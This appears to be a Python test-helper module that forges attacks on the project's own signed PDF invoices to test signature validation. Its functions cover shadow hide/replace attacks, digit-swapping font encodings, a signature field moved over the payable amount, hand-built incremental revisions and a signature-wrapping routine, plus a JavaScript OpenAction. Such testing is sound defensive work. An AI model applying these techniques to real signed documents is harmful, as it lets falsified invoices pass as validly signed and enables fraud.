"""What is published of attacks on signed PDFs, done to invoices that our own authority signed."""

import re
from collections.abc import Callable, Iterator, Mapping
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter, copy_into_new_writer

from tests.documents import signed_pdfs as make

Change = Callable[[IncrementalPdfFileWriter], None]
FALSE_AMOUNT = b"BT /F1 12 Tf 72 700 Td (Net a payer : 9 120,00 EUR) Tj ET"
FALSE_PAGE = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(FALSE_AMOUNT), FALSE_AMOUNT)
REACHED_ELSEWHERE = {  # what a catalogue holds beside its pages: shown or done by viewers
    "/OpenAction": {"/S": "/JavaScript", "/JS": "(app.alert(1))"},
    "/AA": {"/WC": "/None"},
    "/Names": {"/JavaScript": "/None"},
    "/Outlines": {"/Type": "/Outlines", "/Count": "0"},
    "/PageLabels": {"/Nums": "[0 << /S /D >>]"},
    "/ViewerPreferences": {"/HideToolbar": "true"},
    "/OCProperties": {"/OCGs": "[]", "/D": "<< /OFF [] >>"},
    "/StructTreeRoot": {"/Type": "/StructTreeRoot"},
    "/Dests": {"/a": "[]"},
    "/URI": {"/Base": "(http://example.invalid)"},
}


def prepared(*, streams: bool = False) -> bytes:
    """An invoice with much beside its page, and with what an attacker hides before it is signed.

    A second catalogue with another page, a cover over the amount, another content: in the file, and shown by nobody.
    `streams` puts objects into compressed streams, as newer programs do.
    """
    source = PdfFileReader(BytesIO(make.invoice(form=True)))
    writer: Any = (
        copy_into_new_writer(source) if streams else IncrementalPdfFileWriter(BytesIO(make.invoice(form=True)))
    )
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    cover = writer.add_object(generic.StreamObject({pdf_name("/BBox"): _numbers(0, 0, 1, 1)}, stream_data=b"q Q"))
    other = writer.add_object(generic.StreamObject(stream_data=FALSE_AMOUNT))
    page["/Resources"][pdf_name("/XObject")] = _dictionary({"/Cover": cover})
    for name, entries in REACHED_ELSEWHERE.items():
        text = " ".join(f"{key} {value}" for key, value in entries.items())
        value = generic.DictionaryObject.read_from_stream(
            BytesIO(f"<< {text} >>".encode()), generic.Reference(1, 0, writer)
        )
        if name != "/StructTreeRoot":  # a form that is no part of it is refused by the signing library
            writer.root[pdf_name(name)] = writer.add_object(value)
    pages = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(1)}
    )
    tree = writer.add_object(pages)
    false = generic.DictionaryObject({**page, pdf_name("/Contents"): other, pdf_name("/Parent"): tree})
    pages[pdf_name("/Kids")] = generic.ArrayObject([writer.add_object(false)])
    second = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Catalog"), pdf_name("/Pages"): tree})
    page[pdf_name("/PieceInfo")] = _dictionary({"/Hidden": writer.add_object(second), "/Other": other})
    if isinstance(writer, IncrementalPdfFileWriter):
        writer.update_root()
        writer.update_container(page)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def hidden(writer: PdfFileWriter | IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    """What was prepared before the signature, by its name."""
    found: generic.IndirectObject = first_page(writer)["/PieceInfo"].raw_get(name)
    return found


def first_page(writer: PdfFileWriter | IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def hide(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack: a cover that was nothing becomes a white sheet."""
    cover = first_page(writer)["/Resources"]["/XObject"]["/Cover"]
    cover._data, cover._encoded_data = b"1 g 0 0 1 1 re f", None
    writer.update_container(cover)


def replace(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack: another content takes the place of the page's."""
    page = first_page(writer)
    page[pdf_name("/Contents")] = hidden(writer, "/Other")
    writer.update_container(page)


def hide_and_replace(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack: the catalogue that nobody saw becomes the document's."""
    writer.root[pdf_name("/Pages")] = hidden(writer, "/Hidden").get_object().raw_get("/Pages")
    writer.update_root()


def another_font(writer: IncrementalPdfFileWriter) -> None:
    """Digits are drawn as others: the font's encoding is another."""
    font = first_page(writer)["/Resources"]["/Font"]["/F1"]
    names = [generic.NumberObject(49), pdf_name("/nine")]
    font[pdf_name("/Encoding")] = _dictionary({"/Differences": generic.ArrayObject(names)})
    writer.update_container(font)


def another_box(writer: IncrementalPdfFileWriter) -> None:
    """What is seen of the page is less than it was, said by the tree that it stands in."""
    tree = writer.root["/Pages"]
    tree[pdf_name("/CropBox")] = _numbers(0, 0, 200, 200)
    writer.update_container(tree)


def a_page_more(writer: IncrementalPdfFileWriter) -> None:
    """A second page of the same kind."""
    tree = writer.root["/Pages"]
    page = generic.DictionaryObject({**first_page(writer), pdf_name("/Contents"): hidden(writer, "/Other")})
    tree["/Kids"].append(writer.add_object(page))
    tree[pdf_name("/Count")] = generic.NumberObject(2)
    writer.update_container(tree)


def moved_field(writer: IncrementalPdfFileWriter) -> None:
    """The signature's own field grows over the amount, and shows another."""
    field = next(one.get_object() for one in writer.root["/AcroForm"]["/Fields"] if one.get_object()["/FT"] == "/Sig")
    look = writer.add_object(
        generic.StreamObject({pdf_name("/BBox"): _numbers(0, 0, 300, 30)}, stream_data=FALSE_AMOUNT)
    )
    field[pdf_name("/Rect")] = _numbers(72, 690, 300, 715)
    field[pdf_name("/AP")] = _dictionary({"/N": look})
    writer.update_container(field)


def unlinked(writer: IncrementalPdfFileWriter) -> None:
    """The field is there, its signature is not."""
    field = next(one.get_object() for one in writer.root["/AcroForm"]["/Fields"] if one.get_object()["/FT"] == "/Sig")
    del field["/V"]
    writer.update_container(field)


def another_default(writer: IncrementalPdfFileWriter) -> None:
    """What the form's fonts are, which nothing but the form reaches."""
    form = writer.root["/AcroForm"]
    form[pdf_name("/DR")] = _dictionary({"/Font": _dictionary({})})
    writer.update_container(form)


def title(writer: IncrementalPdfFileWriter) -> None:
    """What the document says of itself, in the title of a viewer's window."""
    said = writer.trailer["/Info"]
    said[pdf_name("/Title")] = generic.pdf_string("Facture acquittee")
    writer.update_container(said)


def elsewhere(name: str) -> Change:
    """An entry of the catalogue is put there, or changed where it stands."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        action = {"/S": pdf_name("/URI"), "/URI": generic.pdf_string("http://example.invalid/payer")}
        value = generic.DictionaryObject({pdf_name(key): said for key, said in action.items()})
        if name in writer.root:
            there = writer.root[name]
            there[pdf_name("/Next")] = value
            writer.update_container(there)
        else:
            writer.root[pdf_name(name)] = writer.add_object(value)
            writer.update_root()

    return change


def revision(
    content: bytes,
    objects: Mapping[int, bytes],
    *,
    places: Mapping[int, int] | None = None,
    root: int | None = None,
    table: bool = True,
    trailer: bool = True,
    pointer: bool = True,
    more: bytes = b"",
) -> bytes:
    """The file with a revision written by hand, of which parts may be missing; `places` points at bytes of before."""
    out, places = content + b"\n", dict(places or {})
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    before = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    catalogue = root or int(re.findall(rb"/Root (\d+)", content)[-1])
    at = len(out)
    if table:
        out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % each for each in sorted(places.items()))
    if trailer:
        size = max([int(one) for one in re.findall(rb"/Size (\d+)", content)] + [number + 1 for number in places])
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s>>\n" % (size, catalogue, before, more)
    return out + (b"startxref\n%d\n%%%%EOF\n" % at if pointer else b"")


def object_at(content: bytes, number: int) -> bytes:
    """The last text of an object that stands in the file by itself."""
    found = re.findall(rb"(?:\n|\r)%d 0 obj\s(.*?)\sendobj" % number, content, re.DOTALL)
    assert found
    return bytes(found[-1])


def wrapped(content: bytes, *, again: bool) -> bytes:
    """Signature wrapping: what was signed last is moved to the end, another table stands where its table was.

    The digits' free room takes another byte range, which says where the bytes are; `again` keeps the first one too.
    """
    written = re.search(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)\]", content)
    assert written is not None
    _, before, after, length = map(int, written.groups())
    gap, signed_tail = content[before:after], content[after : after + length]
    table = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    page = int(re.findall(rb"/Contents (\d+) 0 R", content)[-1])
    digits = gap.rstrip(b">").rstrip(b"0") + b"00>"
    number = int(re.findall(rb"(\d+) 0 obj", content[:before])[-1])
    start = content.rindex(b"%d 0 obj" % number, 0, before)
    body = b"%d 0 obj\n%s\nendobj\n" % (page, FALSE_PAGE)
    for _ in range(3):
        moved = table + 600
        head = content[:before] + digits + b"\n/ByteRange [0 %d %d %d]\n" % (before, moved, length)
        kind = b"" if again else b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
        head += kind + b">>\nendobj\n"
    at = len(head)
    head = (head + body).ljust(table)
    assert len(head) == table
    root, size = re.findall(rb"/Root (\d+)", content)[-1], re.findall(rb"/Size (\d+)", content)[-1]
    earlier = re.findall(rb"/Prev (\d+)", content)[-1]
    entries = b"".join(
        b"%d 1\n%010d 00000 n \n" % (one, place) for one, place in sorted({page: at, number: start}.items())
    )
    old = _entries(content, table)
    entries += b"".join(b"%d 1\n%010d 00000 n \n" % each for each in old if each[0] not in {page, number})
    head += b"xref\n" + entries + b"trailer\n<< /Size %s /Root %s 0 R /Prev %s >>\n" % (size, root, earlier)
    head += b"startxref\n%d\n%%%%EOF\n" % table
    return head.ljust(moved) + signed_tail


def _entries(content: bytes, table: int) -> Iterator[tuple[int, int]]:
    """Numbers and places of a classical table."""
    lines = content[table:].split(b"trailer")[0].splitlines()[1:]
    at = 0
    while at < len(lines):
        first, count = map(int, lines[at].split())
        for number in range(count):
            place, _, kind = lines[at + 1 + number].split()
            if kind == b"n":
                yield first + number, int(place)
        at += count + 1


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.NumberObject, values))


def _dictionary(entries: Mapping[str, generic.PdfObject]) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(key): value for key, value in entries.items()})
